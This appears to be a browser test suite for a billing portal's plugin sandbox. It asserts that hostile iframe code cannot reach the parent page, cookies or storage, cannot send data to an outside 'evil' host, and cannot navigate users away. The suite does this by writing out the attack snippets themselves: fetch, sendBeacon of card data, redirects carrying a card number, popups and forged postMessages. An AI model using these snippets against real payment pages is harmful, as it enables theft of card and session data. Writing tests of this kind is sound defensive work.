// Browsers: what code of a plugin in its frame tries against the page around it, and where else it would send what it sees.
import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import type { BrowserPart } from '../../core/plugins/index.ts'
import { draft, issue, makeGateway, scriptedGateway } from '../billing/support.ts'
import { makePortal } from '../http/portal/shop.ts'
import { launchBrowser, type OpenPage, type TestBrowser } from '../support/browser.ts'
import { makeDatabase, type TestDatabase } from '../support/databases.ts'
import { PASSWORD } from '../support/make.ts'
import { testMeans, type TestMeans } from '../support/means.ts'
import { startWeb, type Web } from '../support/web.ts'

let database: TestDatabase
let means: TestMeans
let web: Web
let browser: TestBrowser
let portal: Awaited<ReturnType<typeof makePortal>>
let gateway: { id: string }
let code = ''
const answers: object[] = []
/** Whom the manifest does not name: every request that reaches it is an escape. */
const reached: string[] = []
const stranger = createServer((request, response) => {
  reached.push(request.url!)
  response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
})
const strangerAt = () => `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`

const part = (): BrowserPart => ({
  ...{ name: 'Hostile', code, hash: 'a'.repeat(64), scripts: [] },
  origins: { script: [], frame: [], connect: ['https://api.example.com'], image: [] },
})

before(async () => {
  await new Promise<void>((done) => stranger.listen(0, '127.0.0.1', done))
  database = await makeDatabase('sqlite')
  means = testMeans(database.db)
  portal = await makePortal(means)
  gateway = await makeGateway(means)
  const plugins = { ...scriptedGateway(answers as never), browserPart: () => Promise.resolve(part()) }
  web = await startWeb(means, { plugins })
  browser = await launchBrowser()
})
after(async () => {
  await browser?.close()
  await web?.close()
  await database?.remove()
  stranger.closeAllConnections()
  stranger.close()
})

/** The pay page of an invoice with the hostile frame in it, opened by its client. */
async function withFrame(hostile: string): Promise<OpenPage & { told(): Promise<string> }> {
  code = `const origin = document.body.dataset.parent
    const tell = (token) => parent.postMessage({ token }, origin)
    const tried = async (act) => { try { return String(await act()) } catch (error) { return error.name } }
    ;(async () => { ${hostile} })()`
  const invoice = await issue(means, draft(portal.client))
  const opened = await browser.open(`${web.address}/sign-in`)
  const { page } = opened
  await page.getByLabel('E-mail address').fill(portal.user.email)
  await page.getByLabel('Password', { exact: true }).fill(PASSWORD)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.waitForURL('**/portal')
  answers.push({
    ...{ outcome: 'needs_client', reference: `pi_${answers.length}` },
    embed: { data: strangerAt() },
  })
  await page.goto(`${web.address}/portal/invoices/${invoice.id}/pay`)
  await page.locator(`form:has(input[value="${gateway.id}"]) button`).click()
  await page.locator('iframe[data-embed]').waitFor()
  const told = async () => {
    await page.locator('[data-embed-token]:not([value=""])').waitFor({ state: 'attached' })
    return page.locator('[data-embed-token]').inputValue()
  }
  return { ...opened, told }
}

test('rule: a frame has no origin: neither page, cookies nor storage are its own', async () => {
  const { told, close } = await withFrame(`tell(JSON.stringify({
    origin: self.origin,
    page: await tried(() => parent.document.title),
    cookie: await tried(() => document.cookie),
    storage: await tried(() => localStorage.length),
  }))`)
  assert.deepEqual(JSON.parse(await told()), {
    ...{ origin: 'null', page: 'SecurityError', cookie: 'SecurityError', storage: 'SecurityError' },
  })
  await close()
})

test('rule: a frame asks only the declared hosts, so neither our pages nor anybody else', async () => {
  const { told, close } = await withFrame(`
    const evil = document.body.dataset.data
    const loads = (tag, more) => new Promise((done) => {
      const element = Object.assign(document.createElement(tag), more)
      element.onload = () => done('loaded')
      element.onerror = () => done('refused')
      setTimeout(() => done('nothing'), 2000)
      document.body.append(element)
    })
    tell(JSON.stringify({
      ours: await tried(() => fetch(origin + '/portal', { credentials: 'include' })),
      fetched: await tried(() => fetch(evil + '/fetch')),
      beacon: await tried(() => navigator.sendBeacon(evil + '/beacon', 'card')),
      script: await loads('script', { src: evil + '/script.js' }),
      image: await loads('img', { src: evil + '/image.png' }),
    }))`)
  const { beacon: _, ...rest } = JSON.parse(await told()) as Record<string, string>
  assert.deepEqual(rest, { ours: 'TypeError', fetched: 'TypeError', script: 'refused', image: 'refused' })
  assert.deepEqual(reached, [])
  await close()
})

for (const leaves of ['form.submit()', "location.href = evil + '/itself?card=4242'"])
  test(`rule: a frame leads nobody away: no window, no frame of its own, not the page, nor by ${leaves}`, async () => {
    const { page, told, close } = await withFrame(`
    const evil = document.body.dataset.data
    const popup = await tried(() => window.open(evil + '/popup'))
    const top = await tried(() => { window.top.location = evil + '/top' })
    const form = Object.assign(document.createElement('form'), { action: evil + '/form', method: 'post' })
    const nested = Object.assign(document.createElement('iframe'), { src: evil + '/nested' })
    document.body.append(form, nested)
    tell(JSON.stringify({ popup, top }))
    await new Promise((done) => setTimeout(done, 300))
    ${leaves}`)
    assert.deepEqual(JSON.parse(await told()), { popup: 'null', top: 'SecurityError' })
    await page.waitForTimeout(1_500)
    assert.match(page.url(), /\/portal\/invoices\/inv_\w+\/pay$/)
    assert.equal(page.context().pages().length, 1)
    assert.deepEqual(reached, [])
    await close()
  })

test('rule: only the window of the frame is heard, and a token is a short text', async () => {
  const { page, told, close } = await withFrame(`
    parent.postMessage({ token: 'x'.repeat(5000) }, origin)
    parent.postMessage({ token: { toString: 'no' } }, origin)
    parent.postMessage({ height: 1e9 }, origin)
    tell('mine')`)
  assert.equal(await told(), 'mine')
  await page.evaluate('window.postMessage({ token: "forged" }, "*")')
  await page.waitForTimeout(200)
  assert.equal(await page.locator('[data-embed-token]').inputValue(), 'mine')
  assert.equal(await page.locator('iframe[data-embed]').getAttribute('height'), '1200')
  await close()
})

test('rule: nobody else shows a frame, and no page is shown in one', async () => {
  const { page, close } = await withFrame(`tell('here')`)
  const address = await page.locator('iframe[data-embed]').getAttribute('src')
  const frame = await fetch(web.address + address!)
  assert.match(frame.headers.get('content-security-policy')!, /frame-ancestors 'self'$/)
  assert.equal(frame.headers.get('set-cookie'), null)
  const other = await fetch(`${web.address}/frames/${means.newId('plg')}/${address!.split('/').at(-1)!}`)
  assert.equal(other.status, 404)
  assert.equal((await fetch(`${web.address}${address!.slice(0, -3)}AAA`)).status, 404)
  means.clock.advance(10 * 60_000 + 1)
  assert.equal((await fetch(web.address + address!)).status, 404)
  await close()
})
